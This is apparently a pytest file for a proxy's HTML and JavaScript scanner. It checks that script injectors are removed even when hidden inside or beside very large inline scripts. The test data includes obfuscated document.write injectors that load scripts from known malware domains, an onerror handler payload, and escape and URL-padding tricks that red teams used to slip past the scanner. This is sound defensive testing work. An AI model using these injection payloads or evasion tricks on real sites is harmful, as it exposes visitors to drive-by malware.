"""Big inline scripts: fast to judge, and an injector hidden in one is still caught.

Issue 17: a page with megabytes of inline script (server-rendered app state) must
not cost seconds, and the shortcuts that make it fast (literal-anchored searches,
handlers searched in markup only) must not open a hole: every injector the
scanner catches in a small script is caught at the end of a big one, next to one,
and in event handlers that follow one.
"""

from __future__ import annotations

import json
import random

import pytest

from proxy_addons.core.htmlscan import Scanner
from proxy_addons.core.jsscan import MAX_TOKENIZED_CHARS
from tests.core.test_htmlscan_mentions import MUST_STRIP, PAGE, SIGNATURES, html, is_blocked

# The injectors that are one classic <script> element.
INJECTORS = {
    name: body[len("<script>") : -len("</script>")]
    for name, body in MUST_STRIP.items()
    if body.startswith("<script>") and body.endswith("</script>") and body.count("<script>") == 1
}


def app_state(size: int, seed: int = 7) -> str:
    """JSON app state with URLs, links and words that look like handlers ("onclick=")."""
    rnd = random.Random(seed)
    items = []
    n = 0
    i = 0
    while n < size:
        item = json.dumps(
            {
                "id": i,
                "image": f"https://cdn{i % 5}.example.com/img/{rnd.randrange(10**9)}.jpg",
                "host": f"site{i % 9}.example.org",
                "html": "<p onclick=track()>consectetur onload</p>",
                "body": "lorem ipsum dolor sit amet consectetur " * 4,
            }
        )
        items.append(item)
        n += len(item) + 1
        i += 1
    return '{"items":[' + ",".join(items) + "]}"


STATE = app_state(MAX_TOKENIZED_CHARS + 64 * 1024)


def strip(body: bytes, *, fast_path: bool) -> tuple[bytes, list]:  # type: ignore[type-arg]
    scanner = Scanner(is_blocked, SIGNATURES, fast_path=fast_path)  # type: ignore[arg-type]
    return scanner.strip(body, PAGE, "text/html; charset=utf-8", comment=False)


def test_there_are_injectors_to_hide() -> None:
    assert len(INJECTORS) > 30


@pytest.mark.parametrize("fast_path", [True, False])
@pytest.mark.parametrize("name", sorted(INJECTORS))
def test_an_injector_at_the_end_of_a_big_script_is_removed(name: str, fast_path: bool) -> None:
    script = f"<script>window.__STATE__ = {STATE};\n{INJECTORS[name]}</script>"
    body = html(script)
    out, findings = strip(body, fast_path=fast_path)
    removed = [f for f in findings if f.removed]
    assert removed, findings
    assert script.encode() not in out


@pytest.mark.parametrize("fast_path", [True, False])
@pytest.mark.parametrize("name", sorted(INJECTORS))
def test_an_injector_next_to_a_big_script_is_removed_and_the_state_kept(
    name: str, fast_path: bool
) -> None:
    state = f"<script>window.__STATE__ = {STATE};</script>"
    body = html(state + f"<script>{INJECTORS[name]}</script>" + state)
    out, findings = strip(body, fast_path=fast_path)
    assert [f for f in findings if f.removed], findings
    assert out.count(state.encode()) == 2
    for host in (b"gumblar.cn", b"martuz.cn", b"lizamoon.com/ur", b"217.107.218.147"):
        assert host not in out.replace(state.encode(), b"")


@pytest.mark.parametrize("fast_path", [True, False])
def test_a_handler_after_big_scripts_is_removed(fast_path: bool) -> None:
    state = f"<script>window.__STATE__ = {STATE};</script>"
    handler = "<img src=x onerror=\"document.write('<script src=//gumblar.cn/a.js></scr'+'ipt>')\">"
    body = html(state + "<p>between</p>" + state + handler + "<p>after</p>")
    out, findings = strip(body, fast_path=fast_path)
    assert [f.element for f in findings if f.removed] == ["img"]
    assert b"gumblar" not in out
    assert out.count(state.encode()) == 2


@pytest.mark.parametrize("fast_path", [True, False])
def test_handler_words_inside_a_big_script_are_its_own(fast_path: bool) -> None:
    # "onerror=" inside the script text is JavaScript's, judged with the script.
    code = f"window.__STATE__ = {STATE}; var tpl = '<img onerror=\"x()\">';"
    body = html(f"<script>{code}</script>")
    out, findings = strip(body, fast_path=fast_path)
    assert out is body
    assert findings == []


@pytest.mark.parametrize("fast_path", [True, False])
@pytest.mark.parametrize(
    "tail",
    [
        'var iocs = ["gumblar.cn", "http://martuz.cn/in.cgi"];',  # a host literal, a URL
        'var ioc = "wss://gumblar.cn/c";',
        'var ioc = "https:\\/\\/gumblar.cn/c";',  # escaped slashes (decoded variant)
        'window.__IOC__ = "\\u0067umblar.cn";',  # an escape (decoded variant)
    ],
)
def test_a_mention_at_the_end_of_big_state_is_reported_not_removed(
    tail: str, fast_path: bool
) -> None:
    # Only JSON values assigned to names: no way to load what it names, recognised
    # without the tokenizer whatever the size.
    body = html(f"<script>window.__STATE__ = {STATE};\n{tail}</script>")
    out, findings = strip(body, fast_path=fast_path)
    assert out is body
    assert [f.reason for f in findings] == ["mention"]
    assert not findings[0].removed


@pytest.mark.parametrize("fast_path", [True, False])
@pytest.mark.parametrize(
    "code",
    [
        "document['wr'+'ite']('<scr'+'ipt src=//gumblar.cn/x.js></scr'+'ipt>')",
        "\\u0064ocument.write('\\x3cscript src=http://martuz.cn/x.js>\\x3c/script>')",
        "document.write('<script src=http://LİZAMOON.COM/ur.php></scr'+'ipt>')",  # İ: i
        "document.write('<script src=http://127.0.0.1/x.js?217.107.218.147></scr'+'ipt>')",
    ],
)
def test_obfuscated_injectors_in_big_scripts(code: str, fast_path: bool) -> None:
    for script in (f"window.__STATE__ = {STATE};\n{code}", f"{code};\nwindow.__S__ = {STATE};"):
        body = html(f"<script>{script}</script>")
        out, findings = strip(body, fast_path=fast_path)
        assert [f for f in findings if f.removed], (code, findings)
        assert script.encode() not in out


@pytest.mark.parametrize("fast_path", [True, False])
def test_a_big_script_past_the_tokenizer_naming_a_blocked_host_is_removed(fast_path: bool) -> None:
    # Not JSON assignments and longer than the tokenizer reads: judged as if it could
    # load what it names (a bound on work, erring towards removal).
    body = html(f"<script>window.__STATE__ = {STATE};\nvar ioc = 'gumblar.cn';</script>")
    out, findings = strip(body, fast_path=fast_path)
    assert [f.evidence for f in findings if f.removed] == ["not analysed (too long)"]
    assert b"gumblar" not in out


@pytest.mark.parametrize("fast_path", [True, False])
@pytest.mark.parametrize(
    "ref",
    [
        # dot segments that resolve away: over the URL cap as written, short as requested
        "'http://evil.test" + "/." * 32_770 + "/x'",
        "'http://evil.test' + '" + "/." * 32_770 + "' + '/x'",
    ],
    ids=["dot-padding", "dot-padding-joined"],
)
def test_a_reference_over_the_url_cap_that_resolves_short_is_judged_by_its_url(
    ref: str, fast_path: bool
) -> None:
    """The engine refuses a URL text over 64 KiB; the browser requests the resolved one.

    A red team found the fast path asked the engine about the text as written, got an
    error (not blocked) and kept the script; Chromium then requested evil.test/x.
    """
    from proxy_addons.core.engine import Engine, blocked_by
    from proxy_addons.core.model import ListSpec, RuleKind
    from tests.addons.test_blocking import _rules

    engine, _, _ = Engine.from_lists(
        [(ListSpec(name="malware", category="malware"), _rules((RuleKind.DOMAIN, "evil.test")))]
    )
    scanner = Scanner(blocked_by(engine), SIGNATURES, fast_path=fast_path)  # type: ignore[arg-type]
    script = f"<script>var i = new Image(); i.src = {ref};</script>"
    out, findings = scanner.strip(html(script), PAGE, "text/html; charset=utf-8", comment=False)
    assert any(f.removed for f in findings), findings
    assert b"evil.test" not in out


@pytest.mark.parametrize("fast_path", [True, False])
@pytest.mark.parametrize(
    "code",
    [
        # \56 is "." and the "1" after it is a digit: JS reads at most two digits from 4-7
        'new Image().src = "http://217\\56107\\56218\\56147/oct";',
        "new Image().src = 'http://217\\056107\\056218\\056147/oct';",
        # \u{...} takes any number of hex digits, leading zeros included
        "new Image().src = 'http://\\u{000000006D}artuz.cn/x.js';",
        "document.write('<script src=http://martuz\\u{0002e}cn/x.js></scr'+'ipt>');",
    ],
    ids=["octal-4-7", "octal-0-3", "u-brace-long", "u-brace-write"],
)
def test_escapes_read_as_javascript_reads_them(code: str, fast_path: bool) -> None:
    """A red team found octal escapes read three digits past 4-7 and ``\\u{}`` capped
    at six digits: the browser decoded a blocked URL the scanner did not."""
    out, findings = strip(html(f"<script>{code}</script>"), fast_path=fast_path)
    assert any(f.removed for f in findings), findings
